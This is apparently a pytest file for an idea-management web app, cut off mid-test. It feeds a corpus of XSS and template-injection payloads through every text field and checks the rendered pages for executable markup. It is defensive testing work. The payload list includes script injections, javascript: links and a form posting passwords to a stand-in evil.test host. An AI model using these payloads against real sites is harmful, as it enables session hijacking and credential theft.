"""Every user text field through an XSS payload corpus: rendered pages hold no executable markup.

Each payload goes in through the real HTTP route, as the role that writes that field, and every
page where the value appears is rendered (full page and, where the route has one, the htmx
fragment). A page passes when, walked with html.parser:

- no <script> other than the app's own <script src="/static/..."> (and none with a body),
- no attribute named on* or hx-on*, and no style attribute (the app has none),
- no href/src/action/formaction/data/hx-get... starting with javascript:, data: or vbscript:
  once whitespace and control characters are removed and case folded,
- no <svg>, <math>, <iframe>, <object>, <embed>, <style>, <base>, ... at all, and <form>, <meta>,
  <link>, <img> only as the app writes them (a method, a same-site action, /static/, previews),
- no sign of template evaluation ({{1337*1111}} never becomes 1485407, {{config}} never shows).

A value may also be refused by validation; then the page must say so (an error next to the
field or a flashed error) and must itself be safe, since refusals echo the value back.
Values carry a marker ("xssmark pNN") so that each accepted one is seen on its page: a check
that passes because the value was silently dropped would prove nothing.

The number of (field, payload) combinations tried per engine is printed by the last test
(run with -s to see it).
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterator
from datetime import timedelta
from html.parser import HTMLParser
from typing import Any

import pytest
from flask import got_request_exception, request
from markupsafe import escape

from ideahub.extensions import db
from ideahub.judging.services import PanelSettings, save_criterion, save_panel, start_judging
from ideahub.models import Criterion, utcnow

PAYLOADS: list[str] = [
    "<script>alert(1)</script>",
    "<ScRiPt SRC=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">raw link</a>',
    "[link](javascript:alert(1))",
    "[link](JaVaScRiPt:alert(1))",
    "[link](&#106;avascript&#58;alert(1))",
    "[link](java&#x09;script:alert(1))",
    "[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[link](vbscript:msgbox(1))",
    '[link](https://ok.test "t\\" onmouseover=\\"alert(1)")',
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "</textarea><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    "{{1337*1111}} {{config}} ${1337*1111} {% print 1337*1111 %}",
    '<div style="width:expression(alert(1))">css</div>',
    "<style>*{background:url(javascript:alert(1))}</style>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # full-width < >
    "\u202e<script>alert(1)</script>\u200b",  # right-to-left override, zero-width space
    "<scr\x00ipt>alert(1)</scr\x00ipt>",  # a null byte
    "<<script>alert(1)//<</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a hx-get="/admin/users" hx-trigger="load" hx-on:click="alert(1)">x</a>',
    "<form action=https://evil.test><input name=password></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href=//evil.test/>',
]

# (engine, field) -> number of payloads tried
TRIED: Counter[tuple[str, str]] = Counter()
# (engine, field) -> how many of them were refused (with a reason) rather than stored
REFUSED: Counter[tuple[str, str]] = Counter()

FIELDS = [
    "campaign.title",
    "campaign.theme",
    "campaign.description",
    "idea.title",
    "idea.summary",
    "idea.description",
    "idea.tags",
    "idea.status_note",
    "idea.withdraw_note",
    "comment.body",
    "comment.reply",
    "comment.edit",
    "user.name",
    "user.job_title",
    "department.name",
    "department.name (new)",
    "criterion.name",
    "criterion.description",
    "scorecard.criterion_comment",
    "scorecard.overall_comment",
    "conflict.reason",
    "shortlist.reason",
    "decision.reason",
    "search.q",
    "search.similar_title",
    "campaign.tag_filter",
    "admin.users_q",
    "guideline.title",
    "guideline.body",
    "guideline.change_summary",
    "module.title",
    "module.body",
    "module.quiz",
    "hr.people_q",
]


def marker(i: int) -> str:
    return f"xssmark p{i:02d}"


def tagged(i: int, payload: str) -> str:
    """The payload, then a marker to find it by on the page (and in search)."""
    return f"{payload} {marker(i)}"


def shown(value: str) -> str:
    """How Jinja's autoescaping writes a plain-text value into the page (NUL characters are
    removed from every request before the app sees it: see ideahub/security.py)."""
    return str(escape(value.replace("\x00", "").strip()))


# ---------------------------------------------------------------- the page checker

FORBIDDEN_TAGS = {
    "svg",
    "math",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "style",
    "base",
    "template",
    "noscript",
    "portal",
    "xss",
}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "poster",
    "background",
    "srcset",
    "ping",
    "lowsrc",
    "dynsrc",
    "hx-get",
    "hx-post",
    "hx-put",
    "hx-patch",
    "hx-delete",
}
BAD_SCHEMES = ("javascript:", "data:", "vbscript:", "livescript:")
ONE_PER_PAGE = ("html", "head", "body", "title", "main")
HTMX_REQUESTS = ("hx-get", "hx-post", "hx-put", "hx-patch", "hx-delete")


def _url(value: str) -> str:
    # Browsers drop whitespace and control characters inside a scheme and ignore its case.
    return re.sub(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\u2028\u2029\ufeff]+", "", value).lower()


class _Walker(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None], str]] = []
        self._script_depth = 0
        self.script_bodies: list[str] = []

    def _record(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs), self.get_starttag_text() or ""))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._record(tag, attrs)
        if tag == "script":
            self._script_depth += 1

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._record(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script_depth = max(0, self._script_depth - 1)

    def handle_data(self, data: str) -> None:
        if self._script_depth and data.strip():
            self.script_bodies.append(data)


def unsafe_markup(html: str) -> list[str]:
    """What in this page could run or restyle it: empty when the page is safe."""
    walker = _Walker()
    walker.feed(html)
    walker.close()
    problems: list[str] = []
    counts: Counter[str] = Counter()
    scripts = 0
    for tag, attrs, raw in walker.tags:
        counts[tag] += 1
        snippet = raw[:160]
        if tag in FORBIDDEN_TAGS:
            problems.append(f"<{tag}> element: {snippet}")
        if tag == "script":
            scripts += 1
            src = attrs.get("src") or ""
            if not src.startswith("/static/") or set(attrs) - {"src", "defer"}:
                problems.append(f"script that is not the app's own: {snippet}")
        if tag == "form":
            action = attrs.get("action")
            if (attrs.get("method") or "").lower() not in ("get", "post"):
                problems.append(f"form without the app's method: {snippet}")
            if action is not None and (not action.startswith("/") or action.startswith("//")):
                problems.append(f"form posting elsewhere: {snippet}")
        if tag == "meta" and not (
            set(attrs) == {"charset"} or attrs.get("name") in ("viewport", "htmx-config")
        ):
            problems.append(f"meta element: {snippet}")
        if tag == "link" and not (attrs.get("href") or "").startswith("/static/"):
            problems.append(f"link element: {snippet}")
        if tag == "img" and not re.fullmatch(r"/attachments/\d+/preview", attrs.get("src") or ""):
            problems.append(f"img element: {snippet}")
        for name, value in attrs.items():
            if name.startswith("on") or name.startswith("hx-on") or name.startswith("data-hx-on"):
                problems.append(f"event handler attribute {name}: {snippet}")
            if name == "style":
                problems.append(f"style attribute: {snippet}")
            if name in URL_ATTRIBUTES and _url(value or "").startswith(BAD_SCHEMES):
                problems.append(f"dangerous URL in {name}: {snippet}")
            if name in HTMX_REQUESTS and (
                not (value or "").startswith("/") or value.startswith("//")
            ):
                problems.append(f"htmx request to elsewhere in {name}: {snippet}")
            if name in ("hx-vals", "hx-headers") and "js:" in _url(value or ""):
                problems.append(f"htmx evaluation in {name}: {snippet}")
    for tag in ONE_PER_PAGE:
        if counts[tag] > 1:
            problems.append(f"{counts[tag]} <{tag}> elements")
    if walker.script_bodies:
        problems.append(f"inline script body: {walker.script_bodies[0][:120]!r}")
    raw_scripts = len(re.findall(r"<\s*script", html, re.IGNORECASE))
    if raw_scripts != scripts:
        problems.append(f"{raw_scripts} '<script' in the text but {scripts} parsed")
    if "1485407" in html:
        problems.append("a template expression was evaluated (1337*1111)")
    if "SECRET_KEY" in html or "test-secret-key" in html or "&lt;Config" in html:
        problems.append("the app's configuration was rendered")
    return problems


def test_the_checker_catches_what_it_should():
    page = (
        '<html><head><script src="/static/js/app.js" defer></script></head><body>{}</body></html>'
    )
    assert unsafe_markup(page.format("&lt;script&gt;alert(1)&lt;/script&gt;")) == []
    for bad in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href=" JaVa&#x09;script:alert(1)">x</a>',
        "<svg></svg>",
        "<details ontoggle=alert(1)>",
        '<a hx-on:click="alert(1)">x</a>',
        '<form action="https://evil.test">',
        '<div style="x:expression(alert(1))">',
        "<p>1485407</p>",
        '<a hx-get="https://evil.test">x</a>',
        '<meta http-equiv="refresh" content="0">',
    ]:
        assert unsafe_markup(page.format(bad)), bad


# ---------------------------------------------------------------- probing pages


class Probe:
    """Renders pages, collects every problem with where it was seen, counts combinations."""

    def __init__(self, client: Any, engine: str) -> None:
        self.client = client
        self.engine = engine
        self.problems: list[str] = []

    def tried(self, field: str) -> None:
        TRIED[(self.engine, field)] += 1

    def refused(self, field: str) -> None:
        REFUSED[(self.engine, field)] += 1

    def check(self, where: str, html: str, expect: str | None = None) -> None:
        for problem in unsafe_markup(html):
            self.problems.append(f"{where}: {problem}")
        if expect is not None and expect not in html:
            self.problems.append(f"{where}: the value is not shown ({expect[:60]!r})")

    def page(
        self,
        where: str,
        url: str,
        *,
        expect: str | None = None,
        htmx: bool = False,
        client: Any = None,
        query: dict[str, str] | None = None,
    ) -> str:
        """GET a page (and its htmx fragment when `htmx`); both must be 200 and safe."""
        c = client or self.client
        r = c.get(url, query_string=query)
        html = r.get_data(as_text=True)
        if r.status_code != 200:
            self.problems.append(f"{where}: GET {url} answered {r.status_code}")
        self.check(f"{where} {url}", html, expect)
        if htmx:
            r2 = c.get(url, query_string=query, headers={"HX-Request": "true"})
            if r2.status_code != 200:
                self.problems.append(f"{where}: htmx GET {url} answered {r2.status_code}")
            self.check(f"{where} {url} (htmx)", r2.get_data(as_text=True))
        return html

    def answer(self, where: str, response: Any) -> str:
        """A POST's own answer: never a 500, and safe whatever it is."""
        html = response.get_data(as_text=True)
        if response.status_code >= 500:
            self.problems.append(f"{where}: answered {response.status_code}")
        self.check(f"{where} (answer)", html)
        return html

    def refusal(self, where: str, response: Any, *, says: tuple[str, ...] = ()) -> None:
        """A refused value: a 4xx or a re-rendered form, with a visible reason."""
        html = self.answer(where, response)
        if response.status_code in (301, 302, 303):
            html = self.page(where, response.headers["Location"])
            reason = "flash-error" in html
        else:
            reason = any(
                mark in html for mark in ('class="error"', "form-errors", "flash-error")
            ) or (400 <= response.status_code < 500)
        if not reason and response.status_code < 500:
            self.problems.append(f"{where}: refused ({response.status_code}) without a reason")
        self.refused(where.rsplit(" p", 1)[0])
        for text in says:
            if text not in html:
                self.problems.append(f"{where}: the refusal does not say {text!r}")

    def follow(self, where: str, response: Any, *, client: Any = None) -> tuple[str, bool]:
        """A POST answered with a redirect: the page it leads to, and whether it flashed an
        error (a refusal, which must then be the only outcome: a 500 counts as refused)."""
        html = self.answer(where, response)
        if response.status_code in (301, 302, 303):
            html = self.page(where, response.headers["Location"], client=client)
            refused = "flash-error" in html
        else:
            refused = True
            if response.status_code < 500 and not any(
                mark in html for mark in ('class="error"', "form-errors", "flash-error")
            ):
                self.problems.append(f"{where}: answered {response.status_code} without a reason")
        if refused:
            self.refused(where.rsplit(" p", 1)[0])
        return html, refused

    def search(self, where: str, words: str, *, expect: list[str] = ()) -> None:
        """Every page of results for `words` (full and htmx), and the markers found on them."""
        seen = ""
        for page in range(1, 20):
            html = self.page(
                f"{where} search", "/search", query={"q": words, "page": str(page)}, htmx=True
            )
            seen += html.replace("<mark>", "").replace("</mark>", "")
            if 'rel="next"' not in html:
                break
        for text in expect:
            if text not in seen:
                self.problems.append(f"{where} search: {text!r} not found")

    def assert_clean(self) -> None:
        assert not self.problems, f"{len(self.problems)} problem(s):\n" + "\n".join(
            self.problems[:60]
        )


@pytest.fixture
def probe(app: Any, client: Any, engine_name: str) -> Iterator[Probe]:
    """A Probe; an exception in a view becomes the 500 a person would get, and is listed."""
    probe = Probe(client, engine_name)
    app.config["PROPAGATE_EXCEPTIONS"] = False

    def crashed(sender: Any, exception: BaseException, **extra: Any) -> None:
        probe.problems.append(f"500 from {request.method} {request.path}: {exception!r}")

    got_request_exception.connect(crashed, app)
    try:
        yield probe
    finally:
        got_request_exception.disconnect(crashed, app)


def _id(location: str) -> int:
    return int(re.search(r"/(\d+)(?:[/#?]|$)", location).group(1))  # type: ignore[union-attr]


# ---------------------------------------------------------------- campaigns


def test_campaign_title_theme_description(probe, login, make_user):
    login(make_user(roles=["coe"]))
    accepted: list[str] = []
    for field in ("title", "theme", "description"):
        for i, payload in enumerate(PAYLOADS):
            value = tagged(i, payload)
            where = f"campaign.{field} p{i:02d}"
            data = {"title": f"Campaign {field} {i}", "theme": "", "description": ""}
            data.update({"state": "open", "opens_on": "", "closes_on": "", field: value})
            r = probe.client.post("/campaigns/new", data=data)
            probe.tried(f"campaign.{field}")
            if r.status_code != 302:
                probe.refusal(where, r)
                continue
            url = r.headers["Location"]
            accepted.append(marker(i))
            plain = field != "description"
            probe.page(where, url, expect=shown(value) if plain else marker(i), htmx=True)
            probe.page(where, url + "/edit", expect=shown(value) if plain else None)
            probe.page(where, f"/campaigns/{_id(url)}/panel")
            probe.page(where, f"/campaigns/{_id(url)}/results")
    probe.page("campaign list", "/campaigns/")
    probe.page("home", "/")
    probe.search("campaigns", "xssmark", expect=accepted[:5])
    probe.assert_clean()


# ---------------------------------------------------------------- ideas


def test_idea_title_summary_description_tags(probe, login, make_user, make_campaign):
    author = make_user(name="Idea Author")
    login(author)
    campaign = make_campaign(title="Ideas wanted")
    listing = f"/campaigns/{campaign.id}"
    for field in ("title", "summary", "description", "tags"):
        for i, payload in enumerate(PAYLOADS):
            value = tagged(i, payload)
            where = f"idea.{field} p{i:02d}"
            data = {
                "title": f"Idea {field} number {i}",
                "summary": "",
                "description": "",
                "tags": "",
                "coauthors": "",
                field: value,
            }
            r = probe.client.post(f"/campaigns/{campaign.id}/ideas/new", data=data)
            probe.tried(f"idea.{field}")
            if r.status_code != 302:
                # (said at the field, as every field's refusal is)
                says = ("use letters, digits and dashes",) if field == "tags" else ()
                probe.refusal(where, r, says=says)
                continue
            url = r.headers["Location"]
            idea_id = _id(url)
            plain = field in ("title", "summary")
            probe.page(where, url, expect=shown(value) if plain else marker(i))
            probe.page(where, f"/ideas/{idea_id}/edit", expect=shown(value) if plain else None)
            # An edit keeps this version in the history, which shows it again.
            r = probe.client.post(
                f"/ideas/{idea_id}/edit",
                data={**data, field: "Plain again" if field != "tags" else "plain"},
            )
            probe.answer(f"{where} edit", r)
            probe.page(
                where,
                f"/ideas/{idea_id}/history",
                expect=None if field == "tags" else (shown(value) if plain else marker(i)),
            )
            probe.client.post(f"/ideas/{idea_id}/edit", data=data)  # back to the payload
            probe.page(where, listing, query={"sort": "newest"}, htmx=True)
    probe.page("home", "/")
    probe.page("profile", author.url)
    probe.search("ideas", "xssmark", expect=[marker(0)])
    probe.assert_clean()


def test_idea_status_note_and_withdraw_note(probe, client, app, login, make_user, make_idea):
    coe_client = app.test_client()
    login(make_user(roles=["coe"]), on=coe_client)
    author = make_user()
    login(author)
    reviewed = make_idea(author=author, title="An idea under review")
    statuses = ("under_review", "submitted")
    for i, payload in enumerate(PAYLOADS):
        value = tagged(i, payload)
        where = f"idea.status_note p{i:02d}"
        r = coe_client.post(
            f"/ideas/{reviewed.id}/status", data={"status": statuses[i % 2], "note": value}
        )
        probe.tried("idea.status_note")
        html, refused = probe.follow(where, r, client=coe_client)
        if not refused:
            probe.check(where, html, expect=shown(value))
            probe.page(where, reviewed.url, expect=shown(value))

        where = f"idea.withdraw_note p{i:02d}"
        idea = make_idea(author=author, title=f"Withdrawn idea {i}")
        r = client.post(f"/ideas/{idea.id}/withdraw", data={"note": value})
        probe.tried("idea.withdraw_note")
        html, refused = probe.follow(where, r)
        if not refused:
            probe.page(where, idea.url, expect=shown(value), client=coe_client)
    probe.page("profile", author.url)
    probe.assert_clean()


# ---------------------------------------------------------------- comments


def test_comment_body_reply_and_edit(probe, client, login, make_user, make_idea, make_comment):
    commenter = make_user(name="Commenter")
    login(commenter)
    idea = make_idea(title="An idea to discuss")
    parent = make_comment(idea, make_user(name="First Speaker"), "Where it starts.")
    discussion = f"/ideas/{idea.id}/comments"
    for i, payload in enumerate(PAYLOADS):
        value = tagged(i, payload)

        where = f"comment.body p{i:02d}"
        r = client.post(discussion, data={"body": value})
        probe.tried("comment.body")
        if r.status_code != 302:
            probe.refusal(where, r)
        else:
            comment_id = int(r.headers["Location"].rsplit("comment-", 1)[1])
            probe.page(where, idea.url, expect=marker(i))
            probe.page(where, discussion, htmx=True, expect=marker(i))
            probe.page(where, f"/comments/{comment_id}/edit", htmx=True, expect=shown(value))

            where = f"comment.edit p{i:02d}"
            edited = tagged(i, payload + " (edited)")
            r = client.post(
                f"/comments/{comment_id}/edit",
                data={"body": edited},
                headers={"HX-Request": "true"},
            )
            probe.tried("comment.edit")
            if r.status_code == 200:
                probe.check(f"{where} (htmx answer)", r.get_data(as_text=True), marker(i))
            else:
                probe.refusal(where, r)

        where = f"comment.reply p{i:02d}"
        r = client.post(
            discussion,
            data={"body": value, "parent_id": str(parent.id)},
            headers={"HX-Request": "true"},
        )
        probe.tried("comment.reply")
        html = probe.answer(where, r)
        if r.status_code == 200:
            probe.check(f"{where} (htmx answer)", html, marker(i))
            probe.page(where, idea.url, expect=marker(i))
        else:
            probe.refusal(where, r)
    probe.page("profile", commenter.url)
    probe.page("home", "/")
    probe.search("comments", "xssmark", expect=[marker(0)])
    probe.assert_clean()


# ---------------------------------------------------------------- people and departments


def test_user_name_job_title_and_department_name(
    probe, app, client, login, make_user, make_department, make_campaign, make_idea, make_comment
):
    login(make_user(roles=["admin"], name="The Admin"))
    department = make_department("Operations")
    person = make_user(name="Pat Person", department=department, email="pat@example.test")
    idea = make_idea(campaign=make_campaign(title="People campaign"), author=person)
    make_comment(idea, person, "My own comment.")
    own = app.test_client()
    login(person, on=own)
    listing = f"/campaigns/{idea.campaign_id}"

    def pages(where: str, field: str, value: str) -> None:
        text = shown(value)
        on_cards = text if field in ("user.name", "department.name") else None
        probe.page(where, "/admin/users", expect=on_cards)
        probe.page(where, person.url, expect=text)
        probe.page(where, f"/admin/users/{person.id}/edit", expect=text)
        probe.page(where, listing, expect=on_cards, htmx=True)
        probe.page(where, idea.url, expect=on_cards)
        probe.page(where, "/", client=own, expect=text if field == "user.name" else None)
        if field == "department.name":
            probe.page(where, "/admin/departments", expect=text)
            probe.page(where, f"/admin/departments/{department.id}/edit", expect=text)
            probe.page(where, "/search", query={"q": "anything"}, expect=text)

    base = {
        "email": "pat@example.test",
        "name": "Pat Person",
        "department_id": str(department.id),
        "job_title": "Tester",
        "hire_date": "",
        "timezone": "",
    }
    for field in ("name", "job_title"):
        for i, payload in enumerate(PAYLOADS):
            value = tagged(i, payload)
            where = f"user.{field} p{i:02d}"
            r = client.post(f"/admin/users/{person.id}/edit", data={**base, field: value})
            probe.tried(f"user.{field}")
            if r.status_code != 302:
                probe.refusal(where, r)
                continue
            pages(where, f"user.{field}", value)
        client.post(f"/admin/users/{person.id}/edit", data=base)

    for i, payload in enumerate(PAYLOADS):
        value = tagged(i, payload)
        where = f"department.name p{i:02d}"
        r = client.post(f"/admin/departments/{department.id}/edit", data={"name": value})
        probe.tried("department.name")
        if r.status_code != 302:
            probe.refusal(where, r)
        else:
            pages(where, "department.name", value)

        where = f"department.name (new) p{i:02d}"
        r = client.post("/admin/departments", data={"name": "New " + value})
        probe.tried("department.name (new)")
        if r.status_code != 302:
            probe.refusal(where, r)
        else:
            probe.page(where, "/admin/departments", expect=shown("New " + value))
    probe.page("new account form", "/admin/users/new")
    probe.assert_clean()


# ---------------------------------------------------------------- expert panels


def _judge(app: Any, coe: Any, campaign: Any, chair: Any, second: Any, size: int) -> None:
    with app.test_request_context():
        save_panel(
            coe,
            campaign,
            PanelSettings(
                chair_id=chair.id,
                member_ids=[chair.id, second.id],
                min_reviews=1,
                shortlist_size=size,
                scoring_deadline=utcnow() + timedelta(days=3),
            ),
        )
        start_judging(coe, campaign)


def _criteria(campaign_id: int) -> list[Criterion]:
    return list(
        db.session.scalars(db.select(Criterion).where(Criterion.campaign_id == campaign_id))
    )


def test_judging_criteria_scorecards_conflicts_shortlist_decisions(
    probe, app, client, login, make_user, make_campaign, make_idea
):
    coe = make_user(roles=["coe"], name="Campaign Owner")
    chair = make_user(roles=["expert"], name="Chair Expert")
    second = make_user(roles=["expert"], name="Second Expert")
    author = make_user(name="Idea Author")
    login(coe)
    campaign = make_campaign(title="Judged campaign")
    setup = f"/campaigns/{campaign.id}/panel"

    # Criteria through the form; each accepted one is on the set-up page.
    kept: list[int] = []
    for field in ("name", "description"):
        for i, payload in enumerate(PAYLOADS):
            value = tagged(i, payload)
            where = f"criterion.{field} p{i:02d}"
            data = {"name": f"Criterion {field} {i}", "description": "", "weight": "1"}
            data.update({"scale_min": "1", "scale_max": "5", field: value})
            r = client.post(f"{setup}/criteria", data=data)
            probe.tried(f"criterion.{field}")
            html, refused = probe.follow(where, r)
            if refused:
                continue
            if shown(value) not in html:
                probe.problems.append(f"{where}: the criterion is not on the set-up page")
            kept.append(i)
    # The criteria campaign is judged with one idea: its names on the score page (and in the
    # "Missing:" error), the board and the published results.
    chair_client, second_client = app.test_client(), app.test_client()
    login(chair, on=chair_client)
    login(second, on=second_client)
    if not kept:
        probe.problems.append("every criterion was refused")
    with app.test_request_context():
        save_criterion(coe, campaign, "Plain criterion", "", 1, 1, 5)
    only = make_idea(campaign=campaign, author=author, title="The one idea judged")
    _judge(app, coe, campaign, chair, second, size=1)
    score_url = f"/judging/ideas/{only.id}/score"
    r = chair_client.post(score_url, data={"action": "submit"})
    probe.answer("criterion names in 'Missing:'", r)
    probe.page("criteria on the score page", score_url, client=chair_client)
    criteria = _criteria(campaign.id)
    scores = {f"score-{c.id}": str(c.scale_max) for c in criteria}
    r = chair_client.post(score_url, data={**scores, "action": "submit"})
    probe.follow("scorecard", r, client=chair_client)
    board = f"/campaigns/{campaign.id}/panel/board"
    probe.page("criteria on the board", board, client=chair_client)
    r = chair_client.post(
        f"/ideas/{only.id}/decision", data={"outcome": "selected", "reason": "Ok"}
    )
    probe.follow("decision", r, client=chair_client)
    r = chair_client.post(f"/campaigns/{campaign.id}/panel/publish", data={"override_reason": "x"})
    probe.follow("publish", r, client=chair_client)
    results = probe.page("criteria on the results", f"/campaigns/{campaign.id}/results")
    for i in kept[:5]:
        if marker(i) not in results:
            probe.problems.append(f"results: criterion {marker(i)} is not shown")

    # A second campaign, with one plain criterion, for scorecards, conflicts, decisions.
    campaign = make_campaign(title="Judged campaign")
    with app.test_request_context():
        save_criterion(coe, campaign, "Impact", "", 1, 1, 5)
    n = len(PAYLOADS)
    ideas = [
        make_idea(campaign=campaign, author=author, title=f"Judged idea {i}") for i in range(n)
    ]
    extras = [
        make_idea(campaign=campaign, author=author, title=f"Extra idea {i}") for i in range(n)
    ]
    for idea in ideas:
        idea.vote_count = 5
    db.session.commit()
    _judge(app, coe, campaign, chair, second, size=n)
    criteria = _criteria(campaign.id)
    board = f"/campaigns/{campaign.id}/panel/board"
    setup = f"/campaigns/{campaign.id}/panel"

    on_board: list[str] = []
    for i, payload in enumerate(PAYLOADS):
        value = tagged(i, payload)
        idea = ideas[i]
        score_url = f"/judging/ideas/{idea.id}/score"

        # A draft with the payload in every comment, then the submitted scorecard.
        where = f"scorecard.overall_comment p{i:02d}"
        data = {f"comment-{c.id}": value for c in criteria}
        data.update({f"score-{c.id}": str(c.scale_min) for c in criteria})
        data.update({"overall_comment": value, "action": "draft"})
        r = chair_client.post(score_url, data=data)
        probe.tried("scorecard.criterion_comment")
        probe.tried("scorecard.overall_comment")
        if r.status_code != 302:
            probe.refusal(where, r)
            probe.refused("scorecard.criterion_comment")
        else:
            probe.page(where, score_url, client=chair_client, expect=shown(value))
            r = chair_client.post(score_url, data={**data, "action": "submit"})
            html, refused = probe.follow(f"{where} submit", r, client=chair_client)
            if refused:
                probe.problems.append(f"{where}: the complete scorecard was not submitted")
            else:
                probe.page(where, score_url, client=chair_client, expect=shown(value))
                on_board.append(shown(value))

        where = f"conflict.reason p{i:02d}"
        r = second_client.post(f"/judging/ideas/{idea.id}/conflict", data={"reason": value})
        probe.tried("conflict.reason")
        html, refused = probe.follow(where, r, client=second_client)
        if not refused:
            on_board.append(shown(value.strip()))

        where = f"shortlist.reason p{i:02d}"
        r = chair_client.post(
            f"/campaigns/{campaign.id}/panel/shortlist",
            data={"idea_id": str(extras[i].id), "reason": value},
        )
        probe.tried("shortlist.reason")
        html, refused = probe.follow(where, r, client=chair_client)
        if not refused:
            on_board.append(shown(value))
            probe.page(where, extras[i].url, expect=shown(value))  # the status history note

        where = f"decision.reason p{i:02d}"
        probe.tried("decision.reason")
        for target in (idea, extras[i]):
            r = chair_client.post(
                f"/ideas/{target.id}/decision",
                data={"outcome": "selected" if i % 2 else "not_selected", "reason": value},
            )
            html, refused = probe.follow(where, r, client=chair_client)
            if refused:
                break
        else:
            on_board.append(shown(value))
    board_html = probe.page("board", board, client=chair_client)
    for text in on_board:
        if text not in board_html:
            probe.problems.append(f"board: {text[:60]!r} is not shown")
    probe.page("queue", "/judging/queue", client=chair_client)
    probe.page("queue", "/judging/queue", client=second_client)
    probe.page("set-up after judging", setup)

    r = chair_client.post(
        f"/campaigns/{campaign.id}/panel/publish", data={"override_reason": "Enough reviews."}
    )
    html, refused = probe.follow("publish", r, client=chair_client)
    if refused:
        probe.problems.append("publishing was refused; the results page was not checked")
    results = probe.page("results", f"/campaigns/{campaign.id}/results")
    for idea in ideas[:3] + extras[:3]:
        probe.page("published decision", idea.url)
    if not any(marker(i) in results for i in range(n)):
        probe.problems.append("no decision reason reached the results page")
    probe.assert_clean()


# ---------------------------------------------------------------- query echoes


def test_search_query_and_filter_echoes(probe, app, client, login, make_user, make_idea):
    admin = make_user(roles=["admin"])
    login(admin)
    idea = make_idea(title="Alert systems for the plant", description="alert xssmark")
    listing = f"/campaigns/{idea.campaign_id}"
    for i, payload in enumerate(PAYLOADS):
        value = tagged(i, payload)
        where = f"search.q p{i:02d}"
        expect = shown(value[:200]) if "\x00" not in value else None
        probe.page(where, "/search", query={"q": value}, htmx=True, expect=expect)
        probe.tried("search.q")
        probe.page(f"search.similar_title p{i:02d}", "/search/similar", query={"title": value})
        probe.tried("search.similar_title")
        probe.page(f"campaign.tag_filter p{i:02d}", listing, query={"tag": value}, htmx=True)
        probe.tried("campaign.tag_filter")
        probe.page(f"admin.users_q p{i:02d}", "/admin/users", query={"q": value})
        probe.tried("admin.users_q")
    probe.assert_clean()


# ---------------------------------------------------------------- governance and training


def _guideline(probe: Probe, title: str, body: str, summary: str) -> tuple[Any, int]:
    """Create, draft and publish a guideline through HTTP; (publish answer, guideline id)."""
    r = probe.client.post("/guidelines/new", data={"title": title})
    gid = _id(r.headers["Location"]) if r.status_code == 302 else 0
    if not gid:
        return r, 0
    r = probe.client.post(
        f"/guidelines/{gid}/draft", data={"title": title, "body": body, "for_everyone": "y"}
    )
    if r.status_code != 302:
        return r, gid
    today = probe.client.application.config.get("TODAY") or utcnow().date()
    data = {"change_summary": summary, "is_major": "y", "effective_on": today.isoformat()}
    return probe.client.post(f"/guidelines/{gid}/publish", data=data), gid


def test_guideline_title_body_and_change_summary(probe, login, make_user):
    login(make_user(roles=["coe", "hr"]))
    for field in ("title", "body", "change_summary"):
        for i, payload in enumerate(PAYLOADS):
            value = tagged(i, payload)
            where = f"guideline.{field} p{i:02d}"
            values = {"title": f"Rules {field} {i}", "body": "Be kind.", "summary": "First."}
            values["summary" if field == "change_summary" else field] = value
            r, gid = _guideline(probe, values["title"], values["body"], values["summary"])
            probe.tried(f"guideline.{field}")
            if r.status_code != 302 or not gid:
                probe.refusal(where, r)
                continue
            expect = marker(i) if field == "body" else shown(value)
            probe.page(where, f"/guidelines/{gid}", expect=expect)
            probe.page(where, f"/guidelines/{gid}/draft")
            probe.page(where, f"/guidelines/{gid}/diff")
    probe.page("guideline list", "/guidelines")
    probe.page("hr dashboard", "/hr/")
    probe.page("hr grid", "/hr/people")
    probe.assert_clean()


def test_training_module_title_body_and_quiz(probe, login, make_user):
    login(make_user(roles=["coe", "hr"]))
    _r, gid = _guideline(probe, "Posting rules", "Be kind.", "First.")
    assert gid
    for field in ("title", "body", "quiz"):
        for i, payload in enumerate(PAYLOADS):
            value = tagged(i, payload)
            where = f"module.{field} p{i:02d}"
            one_line = value.replace("\n", " ").replace("\r", " ")
            data = {"title": f"Module {i}", "body": "Read me.", "pass_mark": "50", "due_days": "9"}
            data["quiz"] = "Question?\n* yes\n- no"
            if field == "quiz":  # the value as a question and as a choice
                data["quiz"] = f"{one_line}\n* {one_line}\n- no"
            else:
                data[field] = value
            r = probe.client.post(f"/guidelines/{gid}/training/new", data=data)
            probe.tried(f"module.{field}")
            if r.status_code != 302:
